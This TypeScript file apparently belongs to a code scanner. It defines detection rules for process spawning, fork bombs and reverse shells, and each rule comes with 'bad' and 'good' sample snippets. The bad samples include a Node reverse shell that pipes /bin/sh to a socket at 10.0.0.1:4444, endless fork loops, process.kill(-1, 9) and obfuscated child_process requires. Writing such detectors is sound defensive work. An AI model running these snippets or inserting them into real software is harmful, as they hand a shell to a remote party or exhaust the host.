import { spawned } from '../../code.ts';
import { type CodeRule, needs, scriptLanguages, shows, type Use } from '../../rule.ts';
import { textsOf, type Value } from '../../value.ts';

/** Packages and runtimes that start other programs. */
const starters =
  /^(execa|shelljs|zx|cross-spawn|node-pty|simple-git|sudo-prompt|open|foreground-child|nano-spawn|tinyexec|bun|bunshell|spawn-command|npm-run|pm2|systeminformation|node-cmd)(\.|\(|$)|^(Deno|Bun)\.|^rimraf(\.|\(|$)/;

export const processes: CodeRule = {
  name: 'processes',
  about: 'Starts other programs, signals other processes, or changes rights.',
  languages: scriptLanguages,
  cwe: 'CWE-78',
  bad: [
    "require('child_process').execSync('ls');",
    "import { spawn as s } from 'node:child_process';\ns('ls', ['-l']);",
    "const cp = require('child_' + 'process');\ncp.exec(command);",
    "const { exec } = require('child_process');\nconst run = require('util').promisify(exec);\nrun('id');",
    "import * as c from 'child_process';\nconst f = c['exec'];\nf.call(null, 'id');",
    "process.kill(pid, 'SIGKILL');",
    "process.binding('spawn_sync');",
    "globalThis.process.mainModule.require('child_process').exec('id');",
    "const hand = { cp: require('child_process') };\nhand.cp.exec('id');",
    'process.kill(-1, 9);',
    "require('execa').execa('id');",
    "Deno.run({ cmd: ['id'] });",
  ],
  good: [
    "const { execFileSync } = require('child_process');\nexecFileSync(process.execPath, [require('path').join(__dirname, 'main.js'), 'x']);",
    'process.exit(0);\nprocess.argv.slice(2);',
    "const exec = (x) => x;\nexec('ls');",
    "/a/.exec('b');",
    "console.log(\"require('child_process')\"); // exec('ls')",
    'process.kill(process.pid, 0);',
  ],
  *check(facts, context) {
    for (const use of facts.uses) {
      const { path, at } = use;
      if (use.form === 'import') continue;
      if (/^child_process\.exec(Sync)?$/.test(path) && use.form === 'call')
        yield* spawned(path, use.args[0], undefined, true, at, context);
      else if (
        /^child_process\.(spawn|spawnSync|execFile|execFileSync|fork)$/.test(path) &&
        use.form === 'call'
      ) {
        const isShell = use.args.some(
          (argument) => argument.kind === 'record' && argument.entries.has('shell'),
        );
        yield* spawned(path, use.args[0], use.args[1], isShell, at, context);
      } else if (
        /^(child_process|cluster)(\.[\w*]+)?$|^(child_process|cluster)\.(\*|then|catch|finally)\b/.test(
          path,
        ) &&
        !/^child_process\.ChildProcess$|^cluster\.(is\w+|worker)$/.test(path)
      )
        yield needs(
          'process.spawn',
          at,
          `${path} can start other programs. Use the language itself instead.`,
        );
      else if (starters.test(path))
        yield needs('process.spawn', at, `${path} starts other programs. Use the language itself instead.`);
      else if (/^process\.(binding|_linkedBinding|dlopen)$/.test(path))
        yield needs(
          'native.ffi',
          at,
          `${path} reaches the native parts of Node, which no rule can read. Use Node's modules.`,
        );
      else if (/^process\.(kill|_kill)$/.test(path)) {
        const target = use.args[0];
        if (target?.kind === 'number' && target.number === -1) {
          yield shows(
            'deny',
            at,
            'Sends a signal to every process there is. A program may stop only what it started.',
            ['process.signal'],
          );
          continue;
        }
        const own =
          (target?.kind === 'name' && target.path === 'process.pid') ||
          (use.args[1]?.kind === 'number' && use.args[1].number === 0);
        yield needs(
          'process.signal',
          at,
          own
            ? 'Sends a signal to itself.'
            : 'Signals other processes. A program may stop only what it started, through the object that started it.',
          ...(own ? (['note'] as const) : []),
        );
      } else if (/^process\.(setuid|setgid|seteuid|setegid|setgroups|initgroups)$/.test(path))
        yield needs(
          'privilege',
          at,
          `${path} changes whose rights the program has. Programs run with the rights they were given.`,
        );
      else if (/^worker_threads\.Worker$|^Worker$/.test(path))
        yield needs('module.builtin', at, 'Starts worker threads.');
    }
  },
};

export const forkBomb: CodeRule = {
  name: 'fork-bomb',
  about: 'Starts processes in a loop without an end, or itself once more.',
  languages: scriptLanguages,
  cwe: 'CWE-400',
  bad: [
    "const { fork } = require('child_process');\nwhile (true) fork(__filename);",
    "const cp = require('child_process');\nfor (;;) { cp.spawn(process.argv[0], [process.argv[1]]); }",
    "const cluster = require('cluster');\nsetInterval(() => cluster.fork(), 1);",
    "const { fork } = require('child_process');\nfork(__filename);\nfork(__filename);",
    "require('child_process').spawn(process.execPath, [__filename], { stdio: 'ignore' });",
  ],
  good: [
    "const { fork } = require('child_process');\nif (!process.argv[2]) fork(__filename, ['child']);",
    "const { fork } = require('child_process');\nif (!process.env.CHILD) fork(__filename, { env: { CHILD: '1' } });",
    'while (true) { break; }',
    "const { fork } = require('child_process');\nfork('./worker.js');",
  ],
  *check(facts) {
    for (const use of facts.uses) {
      if (startsItself(use, facts.file))
        yield shows('ask', use.at, 'Starts itself once more, and so would each of its copies.', [
          'process.spawn',
          'resource',
        ]);
      if (
        use.form === 'call' &&
        use.endless &&
        /^(child_process\.(fork|spawn|exec|execFile|spawnSync|execSync)|cluster\.fork)$/.test(use.path)
      )
        yield shows(
          'deny',
          use.at,
          'Starts processes in a loop without an end: a fork bomb. Start a fixed number of them.',
          ['process.spawn', 'resource'],
        );
    }
  },
};

/** With nothing that a copy could tell itself from the first by. */
function startsItself(use: Use, file: string): boolean {
  if (use.form !== 'call' || !/^child_process\.(fork|spawn|execFile)$/.test(use.path)) return false;
  const [program, ...rest] = use.args;
  const list = rest[0]?.kind === 'list' ? rest[0].items : [];
  const told = rest.some((option) => option.kind === 'record' && option.entries.has('env'));
  const isOwn = (value: Value | undefined) =>
    value !== undefined && textsOf(value).some(({ text }) => text === file);
  if (told) return false;
  return use.path.endsWith('.fork')
    ? isOwn(program) && list.length === 0
    : list.length === 1 && isOwn(list[0]);
}

/** A socket wired to a shell. */
export const reverseShell: CodeRule = {
  name: 'reverse-shell',
  about: 'Gives a shell to whoever is at the other end of a connection.',
  languages: scriptLanguages,
  cwe: 'CWE-506',
  bad: [
    "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
  ],
  good: [
    "const net = require('net');\nconst server = net.createServer((c) => c.pipe(c));",
    "const fs = require('fs');\nfs.createReadStream('a').pipe(fs.createWriteStream('b'));",
  ],
  *check(facts) {
    const connects = facts.uses.some(({ path }) =>
      /^(net\.(connect|createConnection|Socket\(\)\.connect)|tls\.connect)$/.test(path),
    );
    const wired = facts.uses.find(({ path }) =>
      /^(net\.\w+\(\)|tls\.connect\(\)|child_process\.\w+\(\)\.(stdout|stderr))\.pipe$/.test(path),
    );
    const shell = facts.uses.some(({ path }) => /^child_process\.\w+\(\)\.(stdin|stdout)/.test(path));
    if (connects && shell && wired !== undefined)
      yield shows(
        'deny',
        wired.at,
        'Gives a shell to whoever is at the other end of a connection. No program of this kind needs that.',
        ['net.client', 'process.spawn'],
      );
  },
};
